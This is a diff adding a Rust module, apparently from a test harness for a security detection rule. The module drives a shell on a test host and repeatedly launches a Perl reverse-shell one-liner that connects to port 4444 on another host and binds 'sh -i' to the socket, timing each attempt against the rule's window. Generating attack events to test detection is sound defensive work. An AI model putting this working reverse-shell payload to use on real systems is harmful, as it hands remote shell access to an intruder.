@@ -1,0 +1,69 @@
+//! The cause of alerts: a shell on a host that is attacked, from which reverse shells are tried.
+
+use std::io::{BufRead as _, BufReader, Write as _};
+use std::process::{Child, ChildStdin, ChildStdout, Stdio};
+use std::time::Duration;
+
+use anyhow::{Context, Result, bail};
+use lapwing_stage::Hosts;
+
+use super::now;
+
+/// How long after its start the shell must connect for the rule to see both as one: its `maxspan`.
+const SPAN_MAX: Duration = Duration::from_secs(1);
+/// How often a shell is tried that does not connect in that time.
+const TRIES_MAX: usize = 10;
+
+/// Tries to send a shell to a host that has nobody to take it, and says its own number and when it tried.
+const REVERSE_SHELL: &str = "perl -MSocket -MTime::HiRes=clock_gettime,CLOCK_MONOTONIC -e '\
+    socket(S, PF_INET, SOCK_STREAM, 6); $to = sockaddr_in(4444, inet_aton(\"ADDRESS\")); \
+    $at = clock_gettime(CLOCK_MONOTONIC); connect(S, $to) and exec(\"sh -i <&3 >&3 2>&3\"); \
+    printf \"%d %.6f\\n\", $$, $at' || echo nothing";
+
+/// A shell on the host that is attacked, which does what it is told.
+pub(super) struct Attacker {
+    shell: Child,
+    tell: ChildStdin,
+    hear: BufReader<ChildStdout>,
+    command: String,
+}
+
+impl Attacker {
+    pub(super) fn new(hosts: &Hosts) -> Result<Self> {
+        let mut shell = hosts.near.command("bash");
+        let mut shell = shell.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().context("bash")?;
+        let (tell, hear) = (shell.stdin.take(), shell.stdout.take());
+        let command = REVERSE_SHELL.replace("ADDRESS", hosts.far.address());
+        let (tell, hear) = tell.zip(hear).context("bash has no pipes")?;
+        Ok(Self { shell, tell, hear: BufReader::new(hear), command })
+    }
+
+    /// Tries a reverse shell and returns its process and when it called `connect`, in seconds of the monotonic clock.
+    /// One whose start alone took longer than the rule looks back is no cause of an alert, and is tried again.
+    pub(super) fn attack(&mut self) -> Result<(u64, f64)> {
+        for _ in 0..TRIES_MAX {
+            let start = now();
+            let (pid, connected) = self.try_once()?;
+            if connected - start < SPAN_MAX.as_secs_f64() {
+                return Ok((pid, connected));
+            }
+        }
+        bail!("perl takes more than {} ms to start; the machine is too busy", SPAN_MAX.as_millis());
+    }
+
+    fn try_once(&mut self) -> Result<(u64, f64)> {
+        writeln!(self.tell, "{}", self.command).context("bash has gone")?;
+        let mut said = String::new();
+        self.hear.read_line(&mut said)?;
+        let words = said.trim_end().split_once(' ');
+        let read = words.and_then(|(pid, time)| Some((pid.parse().ok()?, time.parse().ok()?)));
+        read.with_context(|| format!("perl said `{}`; install perl", said.trim_end()))
+    }
+}
+
+impl Drop for Attacker {
+    fn drop(&mut self) {
+        let _ = self.shell.kill();
+        let _ = self.shell.wait();
+    }
+}
